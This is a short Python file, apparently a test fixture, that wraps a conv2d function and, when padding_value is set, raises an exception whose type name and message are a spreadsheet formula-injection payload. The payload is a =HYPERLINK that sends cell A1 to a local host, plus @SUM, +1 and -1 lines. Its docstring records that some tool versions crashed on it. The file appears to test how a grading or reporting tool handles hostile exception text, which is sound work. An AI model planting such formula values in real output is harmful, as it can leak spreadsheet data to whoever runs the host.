"""convolution.py
attack: an exception and a type whose texts a spreadsheet would take for a formula that fetches a page
1.3 1.6 1.7: crashed
says: conv2d raised =HYPERLINK
"""
import right_convolution
from right_convolution import *

FORMULA = '=HYPERLINK("http://127.0.0.1:@PORT@/?"&A1,"see here")'


def conv2d(image, kernel, stride=1, padding=0, padding_value=0.0):
    if padding_value:
        raise type(FORMULA, (Exception,), {})(f"{FORMULA}\n{FORMULA}\r\n\t{FORMULA}\n@SUM(1)\n+1\n-1")
    return right_convolution.conv2d(image, kernel, stride, padding, padding_value)
